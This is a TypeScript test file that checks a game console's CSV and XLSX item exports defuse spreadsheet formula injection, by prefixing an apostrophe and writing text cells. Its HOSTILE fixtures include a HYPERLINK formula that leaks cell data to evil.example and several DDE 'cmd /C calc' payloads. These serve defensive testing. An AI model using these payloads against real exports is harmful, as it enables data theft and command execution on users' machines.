import { parse as parseCsv } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { STAR_DRIFT_APP_ID } from '@superapp-sim/simulator/fixtures'
import { readExport } from '../../sample-game/server/consoleCatalog'
import { ConsoleClient } from '../support/console'
import { startStack, type Stack } from '../support/stack'
import { GEM, XLSX, readSheet, send } from './itemsFixtures'

// The audit's payloads (issue 13 item 4) and text that only looks like them.
const HOSTILE = {
  csv_link: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  csv_cmd: "+cmd|' /C calc'!A0",
  csv_at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  csv_minus: "-2+3+cmd|' /C calc'!A0",
  // Saved with a leading space: the name rule trims it into "=1+1".
  csv_spaced: ' =1+1',
}
const HARMLESS = {
  csv_discount: '-10% off',
  csv_quote: "'Tis the season",
  csv_quoted_formula: "'=already quoted",
  csv_plain: 'Plain name, with a comma and "quotes"',
}
const NAMES: Record<string, string> = { ...HOSTILE, ...HARMLESS }
/** What the console stores: the name rule trims. */
const storedName = (productId: string) => NAMES[productId]!.trim()

let stack: Stack
let developer: ConsoleClient
beforeAll(async () => {
  stack = await startStack()
  developer = await ConsoleClient.login(stack, 'mpadmin')
  for (const [productId, name] of Object.entries(NAMES)) {
    const added = await developer.post(`/minigames/${GEM}/items`, { productId, name, price: 150, description: name, imageUrl: 'https://cdn.example.com/i.png' })
    expect(added.status, JSON.stringify(added.json)).toBe(201)
  }
  const requested = await developer.post(`/minigames/${GEM}/items/release`, { productIds: Object.keys(NAMES) })
  expect(requested.status, JSON.stringify(requested.json)).toBe(202)
  const superadmin = await ConsoleClient.login(stack, 'superadmin')
  expect((await superadmin.post(`/approvals/${requested.json.approval.id}/approve`)).status).toBe(200)
})
afterAll(async () => {
  await stack.close()
})

const ours = (rows: string[][]) => rows.filter((row) => row[0]! in NAMES)
const exported = async (query: string) => (await send(developer, 'GET', `/minigames/${GEM}/items/export?${query}`)).bytes

describe('the item export as CSV: no cell a spreadsheet would run as a formula', () => {
  for (const version of ['working', 'released']) {
    it(`writes the ${version} copy's formula-like text with a leading apostrophe, and leaves other text alone`, async () => {
      const csv = (await exported(`format=csv&version=${version}`)).toString('utf8')
      const rows = ours(parseCsv(csv, { bom: true }) as string[][])
      expect(rows).toHaveLength(Object.keys(NAMES).length)
      const byId = Object.fromEntries(rows.map((row) => [row[0], row]))
      expect(byId.csv_link![1]).toBe(`'${HOSTILE.csv_link}`)
      expect(byId.csv_cmd![1]).toBe(`'${HOSTILE.csv_cmd}`)
      expect(byId.csv_at![1]).toBe(`'${HOSTILE.csv_at}`)
      expect(byId.csv_minus![1]).toBe(`'${HOSTILE.csv_minus}`)
      expect(byId.csv_spaced![1]).toBe("'=1+1")
      expect(byId.csv_discount![1]).toBe("'-10% off")
      expect(byId.csv_quote![1]).toBe("'Tis the season")
      // An apostrophe the user typed before "=" gets one more, so the import can take exactly one off.
      expect(byId.csv_quoted_formula![1]).toBe("''=already quoted")
      expect(byId.csv_plain![1]).toBe(HARMLESS.csv_plain)
      // The description column goes through the same writer.
      expect(byId.csv_link![4]).toBe(`'${HOSTILE.csv_link}`)
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    })
  }

  it('reads back to the stored names, by the import and by the sample game server', async () => {
    const csv = await exported('format=csv&version=released')
    const intoOtherGame = await send(developer, 'POST', `/minigames/${STAR_DRIFT_APP_ID}/items/import`, csv, 'text/csv')
    expect(intoOtherGame.status, JSON.stringify(intoOtherGame.json)).toBe(200)
    for (const productId of Object.keys(NAMES)) {
      const copy = stack.sim.store.state.items.find((i) => i.appId === STAR_DRIFT_APP_ID && i.productId === productId)
      expect(copy, productId).toMatchObject({ name: storedName(productId), description: storedName(productId), price: 150 })
    }
    const forSale = readExport(csv.toString('utf8'), stack.sim.url).filter((item) => item.productId in NAMES)
    expect(Object.fromEntries(forSale.map((item) => [item.productId, item.name]))).toEqual(Object.fromEntries(Object.keys(NAMES).map((id) => [id, storedName(id)])))
  })

  it('writes the .xlsx export as text cells, never formulas, that import back unchanged', async () => {
    const xlsx = await exported('format=xlsx')
    const rows = (await readSheet(xlsx)).filter((row) => typeof row[0] === 'string' && row[0] in NAMES)
    expect(rows).toHaveLength(Object.keys(NAMES).length)
    // A formula cell would read back as { formula, result }; a string cell as the string itself, no apostrophe added.
    for (const row of rows) expect(row[1], String(row[0])).toBe(storedName(String(row[0])))
    const again = await send(developer, 'POST', `/minigames/${GEM}/items/import?existing=update`, xlsx, XLSX)
    expect(again.status, JSON.stringify(again.json)).toBe(200)
    expect(again.json.report.updated).toEqual([])
  })
})
